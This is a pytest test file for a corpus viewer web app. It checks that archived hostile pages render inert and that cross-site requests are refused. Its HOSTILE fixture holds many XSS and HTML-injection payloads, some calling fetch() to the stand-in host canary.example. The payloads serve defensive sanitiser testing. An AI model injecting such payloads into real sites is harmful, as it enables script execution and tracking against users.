"""The page of one document: its views on a real corpus, and hostile originals, texts and requests."""

from __future__ import annotations

import gzip
import re
import threading
from contextlib import closing, contextmanager
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest
from lxml.html import document_fromstring

from corpus_spider.config.loader import load
from corpus_spider.web import serving
from storage.corpus import Corpus
from tests.corpus_spider.web.page_corpus import ARABIC, THAI, VIETNAMESE, Served, article, build
from tests.corpus_spider.web.test_web import ask
from tests.extras import need, needs

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from corpus_spider.web.guard import Guard
    from corpus_spider.web.state import ServedCorpus as Shared

pytestmark = needs("web")

EVIL = "http://canary.example/"
HOSTILE = {
    "script": f"<script>fetch('{EVIL}')</script><script src='{EVIL}'></script>",
    "handler": f"<p onclick=\"fetch('{EVIL}')\" onmouseover=x>words <b onload=x>here</b></p>",
    "image": f"<img src='{EVIL}a.png' srcset='{EVIL}b.png 2x' onerror=alert(1) alt='A <b>cat</b> \"&gt;'>",
    "picture": f"<picture><source srcset='{EVIL}'><img src='{EVIL}' alt=cat></picture>",
    "frame": f"<iframe src='{EVIL}' srcdoc='<script>alert(1)</script>'></iframe><object data='{EVIL}'></object>",
    "embed": f"<embed src='{EVIL}'><applet code=x></applet><portal src='{EVIL}'></portal>",
    "media": f"<video src='{EVIL}' poster='{EVIL}' autoplay></video><audio src='{EVIL}'></audio>",
    "svg": f"<svg onload=alert(1)><script>alert(1)</script><image href='{EVIL}'/><use href='{EVIL}#a'/></svg>",
    "math": f"<math href='{EVIL}'><mtext><img src='{EVIL}'></mtext><annotation-xml><script>1</script>",
    "style": f"<style>@import '{EVIL}'; p {{ background: url({EVIL}) }}</style><p style='background:url({EVIL})'>s</p>",
    "link": f"<link rel=stylesheet href='{EVIL}'><link rel=prefetch href='{EVIL}'><base href='{EVIL}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "anchor": f"<a href='javascript:alert(1)' ping='{EVIL}'>go</a><a href='{EVIL}' target=_top>out</a>",
    "form": f"<form action='{EVIL}'><input name=a onfocus=alert(1)><button formaction='{EVIL}'>Go</button></form>",
    "dialog": "<dialog open><p>Log in</p></dialog><details open ontoggle=alert(1)><summary>More</summary></details>",
    "textarea": "<textarea><script>alert(1)</script></textarea><title></title><script>alert(1)</script>",
    "noscript": f"<noscript><p title='</noscript><img src={EVIL} onerror=alert(1)>'></noscript>",
    "template": f"<template><img src={EVIL}></template><template shadowrootmode=open><script>1</script></template>",
    "mutation": "<table><td><svg></p><style><a id='</style><img src=x onerror=alert(1)>'></table><xmp><b></xmp>",
    "comment": "<!--><script>alert(1)</script--><![CDATA[<script>alert(1)</script>]]>",
    "custom": f"<x-evil is=x src='{EVIL}'>custom</x-evil><p is=x-evil id=l1 class=note name=original>p</p>",
    "bidi": "<p>\u202eright to left override \u2067 isolate</p><bdo dir=rtl>over</bdo><p dir='rtl\" onclick=x'>d</p>",
    "lang": "<p lang='x\" onclick=alert(1) a=\"'>words</p><td colspan=99999999999 rowspan=x>cell</td>",
    "entity": "<p>&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#x1F; &amp;lt;b&amp;gt;</p>",
    "deep": "<div>" * 300 + "deep words" + "</div>" * 300,
    "plaintext": "<plaintext></body></html><script>alert(1)</script>",
}
"""Hostile markup behind an article."""
SWALLOWING = frozenset({"math", "textarea", "noscript", "mutation", "comment", "plaintext"})
"""Names of markup that may make text of what follows."""
HOSTILE["all"] = "".join(markup for name, markup in HOSTILE.items() if name not in SWALLOWING)
ELEMENTS = frozenset("html head meta title style body main div p h1 span mark b i bdi bdo table tbody tr td".split())
"""Elements that the frames of the hostile pages may have."""
ATTRIBUTES = frozenset({"lang", "dir", "class", "id", "colspan", "rowspan", "charset", "name", "content"})
VIEWS = ("", "/metadata", "/versions", "/duplicates", "/why", "/record", "/extractors", "/original")
XSS = "</h1><script>alert(1)</script>\"'><img src=x onerror=alert(2)>"


@dataclass
class Site:
    """The application on a corpus, and the id of each page's newest document."""

    app: Guard
    shared: Shared
    ids: dict[str, str]

    def get(self, path: str, view: str = "", **headers: str) -> tuple[int, dict[str, str], str]:
        return ask(self.app, f"/documents/{self.ids[path]}{view}", **headers)


def paths() -> list[Served]:
    changed = tuple(line.replace("tăng mạnh", "giảm nhẹ") for line in VIETNAMESE)
    longer = (*VIETNAMESE[:3], VIETNAMESE[3] + " Tin đang được cập nhật.")
    hostile = [
        Served(f"hostile-{name}-4{number:03}.html", article(_own(VIETNAMESE, number), f"{XSS} {name}", extra=markup))
        for number, (name, markup) in enumerate(HOSTILE.items())
    ]
    return [
        Served("gia-xang-4711.html", article(VIETNAMESE, "Giá xăng tăng")),
        Served("gia-xang-4711.html", article(changed, "Giá xăng giảm"), 2),
        Served("gia-xang-4714.html", article(longer, "Giá xăng")),
        Served("khutta-4712.html", article(ARABIC, "خطة جديدة", language="ar")),
        Served("matrakan-4713.html", article(THAI, "มาตรการ", language="th")),
        Served("muc-luc.html", f"<p>Mục lục</p>{HOSTILE['all']}", is_dropped=True),
        *hostile,
    ]


def _own(lines: tuple[str, ...], number: int) -> tuple[str, ...]:
    """Return a text of its own, so that the hostile pages are no duplicates."""
    return tuple(f"{' '.join(word + str(number) for word in line.split()[:9])} {line}" for line in lines)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    folder = tmp_path_factory.mktemp("pages")
    ids = build(folder, paths())
    with served(folder, ids) as site:
        yield site


@contextmanager
def served(folder: Path, ids: dict[str, str]) -> Iterator[Site]:
    """The application on the corpus of a folder."""
    from corpus_spider.web.application import application
    from corpus_spider.web.state import ServedCorpus as Shared

    with Corpus.open(folder / "corpus.db", read_only=True) as corpus:
        shared = Shared(load(folder / "corpus.toml"), corpus)
        with closing(shared):
            yield Site(application(shared, serving.LOOPBACK_NAMES), shared, ids)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_original_is_shown_inert(site: Site, name: str) -> None:
    """The frame has allowed elements and attributes only, no address of the page, and a sandbox; the text is marked."""
    path = next(path for path in site.ids if path.startswith(f"hostile-{name}-"))
    status, headers, text = site.get(path, "/original")
    assert status == 200
    policy = headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert policy.endswith("; sandbox")
    tree = document_fromstring(text)
    assert {each.tag for each in tree.iter()} <= ELEMENTS
    assert {attribute for each in tree.iter() for attribute in each.attrib} <= ATTRIBUTES
    assert not [
        value for each in tree.iter() for value in each.attrib.values() if "canary" in value or "alert" in value
    ]
    assert [each.get("id") for each in tree.iter() if each.get("id")] == ["l1", "l2", "l3", "l4"]
    assert text.count("<style>") == 1


@pytest.mark.parametrize("view", VIEWS[:-1])
def test_no_view_of_a_hostile_document_has_its_markup(site: Site, view: str) -> None:
    """Titles, texts and headers stay text: the only script is ours, and nothing has a handler or a style."""
    path = next(path for path in site.ids if path.startswith("hostile-script"))
    status, _, text = site.get(path, view)
    assert status == 200
    tree = document_fromstring(text)
    assert [each.get("src") for each in tree.iter("script")] == ["/static/page.js"]
    assert all((each.get("src") or "").startswith("/documents/") for each in tree.iter("img"))
    assert not [name for each in tree.iter() for name in each.attrib if name.startswith("on") or name == "style"]
    assert all(each.get("sandbox") == "" for each in tree.iter("iframe"))


@pytest.mark.parametrize("view", VIEWS)
def test_every_view_names_the_language_and_direction_of_the_text(site: Site, view: str) -> None:
    """An Arabic text is set right to left wherever it is shown."""
    status, _, text = site.get("khutta-4712.html", view)
    assert status == 200
    arabic = [each for each in document_fromstring(text).iter() if each.get("lang") == "ar"]
    assert arabic
    if view in {"", "/original"}:
        assert "rtl" in {each.get("dir") for each in arabic}


@pytest.mark.parametrize(
    ("path", "lines"), [("gia-xang-4711.html", 4), ("khutta-4712.html", 4), ("matrakan-4713.html", 4)]
)
def test_the_lines_of_the_text_are_marked_on_the_original_and_linked_to_it(site: Site, path: str, lines: int) -> None:
    """Each line has its mark, menus have none, and the number beside a line leads to the mark."""
    _, _, frame = site.get(path, "/original")
    marks = {each.get("id"): each.text_content() for each in document_fromstring(frame).iter("mark")}
    article = next(document_fromstring(site.get(path)[2]).iter("article"))
    links = [each.get("href") or "" for each in article.iter("a")]
    assert [link.partition("#")[2] for link in links] == list(marks) == [f"l{number + 1}" for number in range(lines)]
    assert not any("Menu" in text or "Footer" in text for text in marks.values())
    assert f"{lines} of {lines} lines" in frame


def test_versions_show_their_difference_word_by_word(site: Site) -> None:
    """The new version is compared with the one before, and any other can be chosen."""
    _, _, text = site.get("gia-xang-4711.html", "/versions")
    tree = document_fromstring(text)
    assert [each.text for each in tree.iter("del")][-1] == "tăng mạnh"
    assert [each.text for each in tree.iter("ins")][-1] == "giảm nhẹ"
    _, _, same = site.get("gia-xang-4711.html", "/versions?with=nonsense")
    # The menu of languages below has the address of the page.
    assert same.partition("<footer>")[0] == text.partition("<footer>")[0]
    assert "There is one version" in site.get("khutta-4712.html", "/versions")[2]


def test_near_duplicates_are_side_by_side(site: Site) -> None:
    """The other document of the cluster is listed with its similarity, and only its side has the added words."""
    _, _, text = site.get("gia-xang-4711.html", "/duplicates")
    tree = document_fromstring(text)
    rows = tree.find_class("sides")[0].findall("tbody/tr")
    assert [len(row) for row in rows] == [2] * len(VIETNAMESE)
    first, second = rows[0][0], rows[-1][1]
    similarity = next(row[4].text_content() for row in tree.iter("tr") if len(row) == 6 and row[5].tag == "td")
    assert 0.6 < float(similarity) < 1
    assert "giảm nhẹ" in first.text_content()
    assert "giảm nhẹ" not in rows[0][1].text_content()
    assert "cập nhật" in "".join(each.text or "" for each in second.iter("ins"))
    assert "No other document" in site.get("khutta-4712.html", "/duplicates")[2]


def test_metadata_name_their_sources_and_what_they_replaced(site: Site) -> None:
    """Each value has its place on the page and its confidence, if they are known."""
    _, _, text = site.get("gia-xang-4711.html", "/metadata")
    rows = {row[0].text_content(): row for row in document_fromstring(text).iter("tr")}
    assert rows["published"][1].text_content() == "2026-03-01 08:00 +07:00"
    assert rows["published"][2].text_content() == "the page: meta"
    assert float(rows["published"][3].text_content()) > 0.5
    assert rows["title"][2].text_content().startswith("the page: ")
    assert "No value was replaced." in text


def test_the_record_is_shown_and_downloaded_as_a_warc_file(site: Site) -> None:
    """Headers of request and response are listed. The download has the response and its request."""
    _, _, text = site.get("khutta-4712.html", "/record")
    assert "test/1" in text
    assert "&lt;script&gt;alert(9)" in text
    status, headers, body = raw(site, "khutta-4712.html", "/record.warc.gz")
    assert (status, headers["content-type"]) == (200, "application/warc")
    assert headers["content-disposition"] == f'attachment; filename="{site.ids["khutta-4712.html"]}.warc.gz"'
    types = re.findall(rb"^WARC-Type: (\w+)", gzip.decompress(body), re.MULTILINE)
    assert types == [b"response", b"request"]


def raw(site: Site, path: str, view: str) -> tuple[int, dict[str, str], bytes]:
    """Return the answer with its body as bytes."""
    from starlette.testclient import TestClient

    answer = TestClient(site.app, base_url="http://localhost").get(f"/documents/{site.ids[path]}{view}")
    return answer.status_code, dict(answer.headers), answer.content


@pytest.mark.parametrize("name", ["auto", "bte", "r2l", "blocks", "trafilatura"])
def test_another_extractor_runs_on_the_original(site: Site, name: str) -> None:
    """Its text is compared with the stored one, or the reason is given why there is none."""
    status, _, text = site.get("gia-xang-4711.html", f"/extractors?extractor={name}")
    assert status == 200
    assert f"<h2>{name}," in text
    assert "The texts are equal" in text or "Words: <del>" in text or "No text:" in text


def test_only_one_other_extractor_runs_at_a_time(site: Site) -> None:
    """A second request is answered with 503 and a sentence at once; an unknown name is refused and not repeated."""
    with site.shared.one_trial():
        status, headers, text = site.get("gia-xang-4711.html", "/extractors?extractor=bte")
    assert (status, "retry-after" in headers, "Only one runs at a time" in text) == (503, True, True)
    status, _, text = site.get("gia-xang-4711.html", "/extractors?extractor=%3Cb%3Enone")
    assert (status, "none" in text.partition("<main")[2].partition("</main")[0]) == (400, False)


def test_originals_beyond_the_free_turns_wait_or_are_refused(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """When all turns are taken for longer than the patience, the answer is 503."""
    monkeypatch.setattr("corpus_spider.web.state.PATIENCE_SECONDS", 0.05)
    with site.shared.expensive(), site.shared.expensive():
        status, headers, text = site.get("gia-xang-4711.html", "/original")
        assert (status, "Busy." in text, "sandbox" in headers["content-security-policy"]) == (503, True, True)
    assert site.get("gia-xang-4711.html", "/original")[0] == 200


@pytest.mark.parametrize(
    ("headers", "allowed"),
    [
        ({}, True),
        ({"sec_fetch_site": "same-origin"}, True),
        ({"sec_fetch_site": "none"}, True),
        ({"sec_fetch_site": "cross-site"}, False),
        ({"sec_fetch_site": "same-site"}, False),
        ({"origin": "http://localhost:8321"}, True),
        ({"origin": "https://evil.example"}, False),
        ({"origin": "http://localhost:3000"}, False),
        ({"origin": "null"}, False),
        ({"referer": "http://localhost:8321/documents"}, True),
        ({"referer": "https://evil.example/page"}, False),
        ({"referer": "http://localhost:3000/"}, False),
        ({"origin": "http://localhost:8321", "referer": "https://evil.example/"}, False),
        ({"sec_fetch_site": "cross-site", "sec_fetch_mode": "navigate", "sec_fetch_dest": "document"}, False),
    ],
)
def test_pages_of_other_sites_cannot_start_work(site: Site, headers: dict[str, str], allowed: bool) -> None:
    """Originals, downloads and extractors answer only this site's pages, and what was typed."""
    for view in ("/original", "/why.csv?extractor=bte", "/record.warc.gz", "/extractors?extractor=bte"):
        if view == "/record.warc.gz" and allowed:
            continue
        status, _, _ = site.get("gia-xang-4711.html", view, **headers)
        assert status == (200 if allowed else 403), view


def test_a_page_that_hangs_or_kills_its_worker_costs_only_itself(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The answer is a sentence with the reason, and the next page is shown."""
    monkeypatch.setenv("CORPUS_SPIDER_FAULTS", "")
    ids = build(
        tmp_path,
        [
            Served("crash-4711.html", article(VIETNAMESE, "A", head="<!-- fault:crash -->")),
            Served("hang-4713.html", article(THAI, "B", language="th", head="<!-- fault:hang -->")),
            Served("well-4712.html", article(ARABIC, "خطة", language="ar")),
        ],
    )
    with (tmp_path / "corpus.toml").open("a") as file:
        file.write("[crawl]\npage_timeout = 1\n")
    monkeypatch.setenv("CORPUS_SPIDER_FAULTS", "1")
    with served(tmp_path, ids) as site:
        status, _, text = site.get("crash-4711.html", "/original")
        assert (status, "worker_crash" in text) == (404, True)
        assert "worker_crash" in site.get("crash-4711.html", "/extractors?extractor=bte")[2]
        assert "worker_timeout" in site.get("hang-4713.html", "/original")[2]
        assert site.get("well-4712.html", "/original")[0] == 200


@pytest.mark.parametrize("damage", ["deleted", "flipped", "linked"])
def test_an_original_that_cannot_be_read_is_a_sentence(tmp_path: Path, damage: str) -> None:
    """Each view still answers, and names the damage; a link out of the folder is not followed."""
    ids = build(tmp_path, [Served("well-4712.html", article(ARABIC, "خطة", language="ar"))])
    [file] = load(tmp_path / "corpus.toml").warc_folder.iterdir()
    content = file.read_bytes()
    file.unlink()
    if damage == "flipped":
        file.write_bytes(bytes(each ^ (16 if at % 50 == 0 else 0) for at, each in enumerate(content)))
    elif damage == "linked":
        (tmp_path / "elsewhere").write_bytes(content)
        file.symlink_to(tmp_path / "elsewhere")
    with served(tmp_path, ids) as site:
        status, _, text = site.get("well-4712.html", "/original")
        assert (status, "cannot be shown" in text) == (404, True)
        assert site.get("well-4712.html", "/record")[0] == 200
        assert site.get("well-4712.html", "/record.warc.gz")[0] == 400
        assert site.get("well-4712.html", "/extractors?extractor=bte")[0] == 400
        assert site.get("well-4712.html")[0] == 200


def test_of_a_long_text_the_first_part_is_shown(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """All of it is a click away."""
    monkeypatch.setattr("corpus_spider.web.views.document.LONGEST_TEXT", 250)
    _, _, cut = site.get("gia-xang-4711.html")
    _, _, whole = site.get("gia-xang-4711.html", "?part=all")
    assert (VIETNAMESE[1] in cut, VIETNAMESE[3] in cut, "Show all" in cut) == (True, False, True)
    assert (VIETNAMESE[3] in whole, "Show all" in whole) == (True, False)


def test_unknown_documents_are_404_in_every_view(site: Site) -> None:
    """The answer repeats nothing of the address."""
    for view in (*VIEWS, "/record.warc.gz", "/nope"):
        for wrong in ("0" * 32, "%3Cb%3E", "..", "%2e%2e%2f"):
            status, _, text = ask(site.app, f"/documents/{wrong}{view}")
            assert status == 404
            assert "<b>" not in text


def test_several_trials_at_once_never_run_together(site: Site) -> None:
    """Of several requests at once at least one is answered, and each is answered with 200 or 503."""
    answers: list[int] = []
    threads = [
        threading.Thread(target=lambda: answers.append(site.get("gia-xang-4711.html", "/extractors?extractor=auto")[0]))
        for _ in range(6)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert len(answers) == 6
    assert set(answers) <= {200, 503}
    assert 200 in answers


def test_a_page_that_a_browser_rendered_is_shown_as_it_rendered_it(tmp_path: Path) -> None:
    """The text is from the browser's DOM, and so is the frame."""
    made = article(VIETNAMESE, "Giá xăng")
    ids = build(tmp_path, [Served("app-4711.html", "<div id=app></div><script src=/app.js></script>", rendered=made)])
    with served(tmp_path, ids) as site:
        assert "4 of 4 lines" in site.get("app-4711.html", "/original")[2]
        assert "as a browser rendered it" in site.get("app-4711.html", "/record")[2]
        _, _, content = raw(site, "app-4711.html", "/record.warc.gz")
        types = re.findall(rb"^WARC-Type: (\w+)", gzip.decompress(content), re.MULTILINE)
        assert types == [b"response", b"request", b"conversion"]


def test_a_page_without_a_document_is_shown_with_its_reason_and_its_original(site: Site) -> None:
    """The list leads to its record: the meaning of its reason, and the stored page in a frame, inert."""
    _, _, listed = ask(site.app, "/dropped?reason=no_article")
    [link] = document_fromstring(listed).xpath("//tbody/tr/th/a/@href")
    status, _, text = ask(site.app, link)
    assert (status, "no running text" in text) == (200, True)
    [frame] = document_fromstring(text).iter("iframe")
    assert frame.get("sandbox") == ""
    status, headers, inert = ask(site.app, frame.get("src"))
    assert (status, headers["content-security-policy"][-9:], "Mục lục" in inert) == (200, "; sandbox", True)
    assert "lines of the text" not in inert
    assert {each.tag for each in document_fromstring(inert).iter()} <= ELEMENTS
    assert ask(site.app, frame.get("src"), sec_fetch_site="cross-site")[0] == 403
    assert ask(site.app, "/dropped/page?url=https://other.example/")[0] == 404


def test_a_huge_page_is_cut(tmp_path: Path) -> None:
    """Of a page with megabytes of text the frame has the first part, and says so."""
    much = "<p>" + "words of a long page " * 200_000
    ids = build(tmp_path, [Served("much-4711.html", article(VIETNAMESE, "Giá xăng", extra=much))])
    with served(tmp_path, ids) as site:
        status, _, text = site.get("much-4711.html", "/original")
        assert (status, "its end is left out" in text, len(text) < 4_000_000) == (200, True, True)


@pytest.mark.parametrize("name", ["auto", "r2l", "bte", "blocks"])
def test_the_decision_of_an_extractor_is_drawn(site: Site, name: str) -> None:
    """The page shows the figure as an image, and links its other forms and its numbers."""
    need("figures")
    _, _, text = site.get("khutta-4712.html", f"/why?extractor={name}")
    [image] = document_fromstring(text).iter("img")
    base = f"/documents/{site.ids['khutta-4712.html']}"
    assert image.get("src") == f"{base}/why.svg?extractor={name}"
    status, headers, svg = site.get("khutta-4712.html", f"/why.svg?extractor={name}")
    assert (status, headers["content-type"], "<svg" in svg) == (200, "image/svg+xml", True)
    assert headers["content-security-policy"].endswith("sandbox")
    assert "<script" not in svg
    status, headers, numbers = site.get("khutta-4712.html", f"/why.csv?extractor={name}")
    assert (status, numbers.startswith("item,chosen")) == (200, True)
    assert headers["content-disposition"].startswith("attachment")


@pytest.mark.parametrize(
    ("view", "status"),
    [
        ("/why?extractor=none", 400),
        ("/why?extractor=trafilatura", 400),
        ("/why.svg?extractor=none", 404),
        ("/why.svg", 404),
        ("/why.html?extractor=bte", 404),
        ("/why.svg/..?extractor=bte", 404),
    ],
)
def test_figures_that_do_not_exist_are_refused(site: Site, view: str, status: int) -> None:
    """An unknown extractor or form repeats nothing of the request."""
    found, _, text = site.get("khutta-4712.html", view)
    assert found == status
    assert "none<" not in text
